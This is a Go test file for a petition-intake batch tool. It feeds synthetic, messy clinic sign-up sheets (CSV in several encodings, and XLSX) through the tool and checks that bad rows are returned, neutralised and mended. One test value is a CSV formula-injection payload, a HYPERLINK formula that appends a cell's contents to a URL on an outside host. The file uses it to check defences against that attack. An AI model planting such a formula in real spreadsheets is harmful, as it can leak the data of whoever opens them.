package batch

import (
	"bytes"
	"encoding/binary"
	"encoding/csv"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/xuri/excelize/v2"

	"expunge/petition/intake"
)

// messRow is a row of a sign-up sheet as a clinic gets it.
type messRow struct {
	cells  []string
	raw    string            // in the place of the cells, where a row is not well-formed
	merged bool              // the empty cells of the person are merged with those above
	mend   map[string]string // what puts a bad row right; nil for a good one
	gone   bool              // a row that belongs to no case, which mending takes out
}

// messColumns are the columns of the sheet: a web form's own, and then the clinic's.
func messColumns() []string { return append([]string{"Timestamp"}, columns...) }

func messHeaders() []string {
	out := []string{" Timestamp "}
	for i, c := range columns {
		h := headerOf(c)
		if h == "" {
			h = c
		}
		if i%3 == 1 {
			h = strings.ToUpper(h[:1]) + h[1:] + " " // headers come in any case, with spaces
		}
		out = append(out, h)
	}
	return out
}

func rowOfFacts(c client) messRow {
	out := make([]string, 0, len(columns)+1)
	out = append(out, "11/2/2026 9:15:02")
	for _, name := range columns {
		out = append(out, c[name])
	}
	return messRow{cells: out}
}

// set changes cells by the names of their columns.
func (r messRow) set(facts map[string]string) messRow {
	r.cells = slices.Clone(r.cells)
	for name, text := range facts {
		r.cells[slices.Index(messColumns(), name)] = text
	}
	return r
}

// wrong makes a bad row of a good one.
func (r messRow) wrong(facts map[string]string) messRow {
	mend := map[string]string{}
	for name := range facts {
		mend[name] = r.cells[slices.Index(messColumns(), name)]
	}
	r = r.set(facts)
	r.mend = mend
	return r
}

// harmless are the ways in which a good row is messy.
func harmless() []map[string]string {
	return []map[string]string{
		{"First name": "  José\u00a0", "Last name": "O’Fauxworth "},
		{"charges[].outcome_date": "6/3/2024"},
		{"charges[].outcome_date": "2024-06-03 00:00:00", "charges[].arrest.date": "1/21/2024 12:00:00 AM"},
		{"Offense": "“simple” assault; by threat, so it says"},
		{"Street (petitioner)": "12 Elm Street\nApartment 4"},
		{"court.county": " rankin COUNTY", "Outcome": "DISMISSED", "record.complete": "TRUE"},
		{"Cause number": "0123"},
		{"Last name": "Müllerson–Smythe"},
		{},
	}
}

// harmful are the ways in which a row is bad, each the only fault of its row.
func harmful() []map[string]string {
	return []map[string]string{
		{"charges[].outcome_date": "1/2/19"},
		{"charges[].arrest.date": "45312"}, // the serial number of a day
		{"court.county": "Rankn"},
		{"First name": "Ada\x00Mae"},
		{"Offense": strings.Repeat("assault ", 131_072)}, // a megabyte
		{"charges[].outcome_date": `=HYPERLINK("http://example.org/?"&B2,"open")`},
		{"Date of birth": "02/30/1980"},
		{"charges[].section": "9/23/2023"}, // 9-23-23 after a spreadsheet had it
		{"Outcome": "disposed"},
		{"charges[].grade": "+1 (see note)"},
		{"case": "-9"},
		{"Date of birth": "@today"},
	}
}

// messySheet is a sheet of two hundred rows. Only CSV can hold a NUL or a row that is not
// well-formed, and only a workbook merged cells.
func messySheet(kind intake.TableKind) []messRow {
	var out, late []messRow
	base := func(n int) messRow {
		id := fmt.Sprintf("CLINIC-%03d", n)
		return rowOfFacts(person(id, firsts[n%len(firsts)], lasts[n%len(lasts)], fmt.Sprintf("19%02d-04-12", 50+n%40)).with(dismissed(counties[n%len(counties)])))
	}
	second := func(n int) messRow { // a second charge of the case, the person as above
		r := rowOfFacts(client{"case": fmt.Sprintf(" clinic-%03d", n)}.with(felony(counties[n%len(counties)], "2019-01-09")))
		r.merged = true
		return r
	}
	good, bad := harmless(), harmful()
	for n := 0; len(out)+len(late) < 185; n++ {
		switch {
		case n%11 == 10:
			facts := bad[n/11%len(bad)]
			if kind == intake.XLSX && strings.ContainsRune(facts["First name"], 0) {
				facts = bad[0]
			}
			out = append(out, base(n).wrong(facts))
		case n%7 == 3:
			out, late = append(out, base(n)), append(late, second(n)) // far from its first row
		case n%7 == 5:
			out = append(out, base(n), second(n))
		default:
			out = append(out, base(n).set(good[n%len(good)]))
		}
		if n%40 == 20 {
			out = append(out, messRow{cells: make([]string, len(messColumns()))}) // a blank row
		}
	}
	out = append(out, late...)
	conflict := rowOfFacts(person("CLINIC-000", "Somebody", "Else", "1950-04-12").with(felony("Lee", "2019-01-09")))
	conflict.mend = map[string]string{"First name": "", "Last name": "", "Street (petitioner)": ""}
	long := base(900)
	long.cells = append(long.cells, "a note beside the table")
	long.mend = map[string]string{}
	out = append(out, conflict, long, rowOfFacts(client{"First name": "Total", "Last name": "200"}).asGone(), rowOfFacts(client{"case": "EXAMPLE-1", "First name": "Pat"}))
	if kind == intake.CSV {
		out = append(out, messRow{raw: `11/2/2026 9:15:02|CLINIC-901|"Ada|Sampleton`, gone: true})
	}
	for len(out) < 200 {
		out = append(out, base(1000+len(out)))
	}
	return out
}

func (r messRow) asGone() messRow {
	r.mend, r.gone = map[string]string{}, true
	return r
}

// asText writes the sheet as CSV.
func asText(rows []messRow, delimiter rune) string {
	var b strings.Builder
	w := csv.NewWriter(&b)
	w.Comma, w.UseCRLF = delimiter, true
	_ = w.Write(messHeaders())
	for _, r := range rows {
		if r.raw != "" {
			w.Flush()
			b.WriteString(strings.ReplaceAll(r.raw, "|", string(delimiter)) + "\r\n")
			continue
		}
		_ = w.Write(r.cells)
	}
	w.Flush()
	return b.String()
}

// asWorkbook writes the sheet as XLSX: dates as date cells, the cells of the person merged
// over the rows of a case.
func asWorkbook(t *testing.T, rows []messRow) string {
	t.Helper()
	f := excelize.NewFile()
	check := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	style, err := f.NewStyle(&excelize.Style{NumFmt: 14})
	check(err)
	for i, h := range messHeaders() {
		check(f.SetCellStr("Sheet1", cellName(t, i, 1), h))
	}
	for n, r := range rows {
		for i, text := range r.cells {
			at := cellName(t, i, n+2)
			if d := strings.Split(text, "-"); r.mend == nil && len(text) == 10 && len(d) == 3 && len(d[0]) == 4 {
				check(f.SetCellValue("Sheet1", at, serialDay(text)))
				check(f.SetCellStyle("Sheet1", at, at, style))
			} else if text != "" {
				check(f.SetCellStr("Sheet1", at, clipCell(text)))
			}
		}
		for i := 1; r.merged && rows[n-1].mend == nil && caseOf(rows[n-1]) == caseOf(r) && i < len(r.cells); i++ {
			if r.cells[i] == "" && rows[n-1].cells[i] != "" {
				check(f.MergeCell("Sheet1", cellName(t, i, n+1), cellName(t, i, n+2)))
			}
		}
	}
	var b bytes.Buffer
	check(f.Write(&b))
	return b.String()
}

// clipCell is what a spreadsheet program would have kept of a text.
func clipCell(s string) string { return s[:min(len(s), 32_767)] }

func caseOf(r messRow) string { return strings.ToLower(strings.TrimSpace(r.cells[1])) }

func cellName(t *testing.T, column, row int) string {
	t.Helper()
	name, err := excelize.CoordinatesToCellName(column+1, row)
	if err != nil {
		t.Fatal(err)
	}
	return name
}

// serialDay is the number by which a spreadsheet keeps a day.
func serialDay(s string) int {
	d, err := time.Parse(time.DateOnly, s)
	if err != nil {
		return 0
	}
	return int(d.Sub(time.Date(1899, time.December, 30, 0, 0, 0, 0, time.UTC)).Hours() / 24)
}

// wide writes a text in UTF-16.
func wide(s string, order binary.AppendByteOrder, mark bool) string {
	var b []byte
	if mark {
		b = order.AppendUint16(b, 0xfeff)
	}
	for _, u := range utf16.Encode([]rune(s)) {
		b = order.AppendUint16(b, u)
	}
	return string(b)
}

// ansi writes a text as a Windows program did, one byte for each letter.
func ansi(s string) string {
	var b []byte
	for _, r := range s {
		switch at := strings.IndexRune("’“”–", r); {
		case at >= 0:
			b = append(b, []byte{0x92, 0x93, 0x94, 0x96}[map[rune]int{'’': 0, '“': 1, '”': 2, '–': 3}[r]])
		default:
			b = append(b, byte(r))
		}
	}
	return string(b)
}

// TestAMessySheet makes what can be made of a sheet as clinics have them, in every
// encoding, and gives the rest back so that it can be mended and made.
func TestAMessySheet(t *testing.T) {
	rows := messySheet(intake.CSV)
	for name, content := range map[string]string{
		"utf-8 with a mark":   "\ufeff" + asText(rows, ','),
		"utf-8, semicolons":   asText(rows, ';'),
		"utf-16, tabs":        wide(asText(rows, '\t'), binary.LittleEndian, true),
		"utf-16 big, commas":  wide(asText(rows, ','), binary.BigEndian, true),
		"utf-16 without mark": wide(asText(rows, ';'), binary.LittleEndian, false),
		"windows-1252":        ansi(asText(rows, ';')),
		"workbook":            asWorkbook(t, messySheet(intake.XLSX)),
	} {
		t.Run(name, func(t *testing.T) {
			kind := intake.CSV
			if name == "workbook" {
				kind = intake.XLSX
			}
			messDone(t, content, messySheet(kind))
		})
	}
}

// messDone runs a sheet and what becomes of its problems.
func messDone(t *testing.T, content string, rows []messRow) {
	o := options()
	o.Only = []string{"checklist"}
	dir := t.TempDir()
	r := mustRun(t, content, dir, o)
	cases, bad := map[string]bool{}, map[string]bool{}
	for _, row := range rows {
		if row.raw != "" || strings.Join(row.cells, "") == "" || strings.HasPrefix(row.cells[1], "EXAMPLE") {
			continue
		}
		id := caseOf(row)
		cases[id] = true
		if row.mend != nil {
			bad[id] = true
		}
	}
	if made := r.Cases[Made]; made != len(cases)-len(bad) {
		t.Errorf("%d packets, want %d", made, len(cases)-len(bad))
	}
	back := problemRows(t, dir)
	for _, cells := range wantBack(rows, bad) {
		if !slices.ContainsFunc(back, func(got []string) bool { return slices.Equal(got[:len(got)-3], cells) || sameCells(got, cells) }) {
			t.Errorf("problems.csv lacks %.300q", cells)
		}
	}
	text, err := os.ReadFile(filepath.Join(dir, problemsName))
	if err != nil || bytes.Contains(text, []byte(",=HYPERLINK")) || !bytes.Contains(text, []byte("'=HYPERLINK")) {
		t.Error("a formula is live", err)
	}
	if err := os.WriteFile(filepath.Join(dir, problemsName), mendedMess(t, text, rows), 0o600); err != nil {
		t.Fatal(err)
	}
	mendedText, err := os.ReadFile(filepath.Join(dir, problemsName))
	if err != nil {
		t.Fatal(err)
	}
	r = mustRun(t, string(mendedText), dir, from(string(mendedText), o))
	if len(r.Problems) > 0 || len(r.Failures) > 0 {
		t.Errorf("mended, and still: %.600v %v", r.Problems, r.Failures)
	}
	there := slices.Collect(maps.Keys(tree(t, dir)))
	if slices.Contains(there, problemsName) || slices.Contains(there, "problems.edited-1.csv") {
		t.Error("a file of problems is left")
	}
	if r.Cases[Made] < 8 {
		t.Errorf("only %v", r.Cases)
	}
}

// wantBack are the rows of the bad cases.
func wantBack(rows []messRow, bad map[string]bool) [][]string {
	var out [][]string
	for _, r := range rows {
		if r.raw == "" && bad[caseOf(r)] && strings.Join(r.cells, "") != "" {
			out = append(out, r.cells)
		}
	}
	return out
}

// problemRows reads the rows of problems.csv, the apostrophes taken off.
func problemRows(t *testing.T, dir string) [][]string {
	t.Helper()
	text, err := os.ReadFile(filepath.Join(dir, problemsName))
	if err != nil {
		t.Fatal(err)
	}
	w := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(text, []byte("\ufeff"))))
	w.FieldsPerRecord = -1
	rows, err := w.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		for i, cell := range r {
			if strings.HasPrefix(cell, "'") && strings.ContainsAny(cell[1:2], "=+-@\t\r") {
				r[i] = cell[1:]
			}
		}
	}
	return rows[1:]
}

// sameCells compares a row of problems.csv with that of the sheet. A note beside the table
// stands behind the columns that were added; a line end in a cell is one however written.
func sameCells(got, cells []string) bool {
	width := len(messColumns())
	if len(got) < width+3 {
		return false
	}
	have := append(slices.Clone(got[:width]), got[width+3:]...)
	for i := range have {
		have[i] = clipCell(strings.ReplaceAll(have[i], "\r\n", "\n"))
	}
	want := slices.Clone(cells)
	for i := range want {
		want[i] = clipCell(want[i])
	}
	return slices.Equal(have, want)
}

// mendedMess puts the rows of problems.csv right, as a volunteer would.
func mendedMess(t *testing.T, text []byte, rows []messRow) []byte {
	t.Helper()
	in := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(text, []byte("\ufeff"))))
	in.FieldsPerRecord = -1
	all, err := in.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	out := csv.NewWriter(&b)
	_ = out.Write(all[0])
	width := len(messColumns())
	for _, got := range all[1:] {
		got = got[:min(len(got), width+3)] // the note beside the table is taken out
		keep := true
		for _, r := range rows {
			if r.mend == nil || r.cells == nil || got[2] != r.cells[2] && strings.TrimLeft(got[2], "'") != r.cells[2] || !mayBe(got, r) {
				continue
			}
			keep = keep && !r.gone
			for name, good := range r.mend {
				got[slices.Index(messColumns(), name)] = good
			}
		}
		if keep && !strings.HasPrefix(got[2], `"`) {
			_ = out.Write(got)
		}
	}
	out.Flush()
	return b.Bytes()
}

// mayBe reports whether a row of problems.csv is the row of the sheet, going by what is not
// to be mended.
func mayBe(got []string, r messRow) bool {
	for i, name := range messColumns() {
		if _, bad := r.mend[name]; bad && name != "First name" {
			continue
		}
		if strings.TrimLeft(got[i], "'") != strings.TrimLeft(r.cells[i], "'") {
			return false
		}
	}
	return true
}

// TestTwoColumnsOfOneName does every row that fills one of them, and gives back the others.
func TestTwoColumnsOfOneName(t *testing.T) {
	first, rows := slices.Index(messColumns(), "Offense"), []messRow{}
	for i, other := range []string{"", "the same", "another offense", "moved"} {
		r := rowOfFacts(person(fmt.Sprintf("A-%d", i), "Ada", lasts[i], "1960-04-12").with(dismissed("Rankin")))
		r.cells = append(r.cells, other)
		switch last := len(r.cells) - 1; other {
		case "moved":
			r.cells[last], r.cells[first] = r.cells[first], ""
		case "the same":
			r.cells[last] = r.cells[first]
		}
		rows = append(rows, r)
	}
	head, rest, _ := strings.Cut(asText(rows, ','), "\r\n")
	dir := t.TempDir()
	r := mustRun(t, head+",Offense\n"+rest, dir, options())
	if r.Cases[Made] != 3 || len(r.Problems) != 1 || r.Problems[0].Code != "header.duplicate" {
		t.Error(r.Cases, r.Problems)
	}
	if back := problemRows(t, dir); len(back) != 1 || !slices.Contains(back[0], "another offense") {
		t.Errorf("%q", back)
	}
}
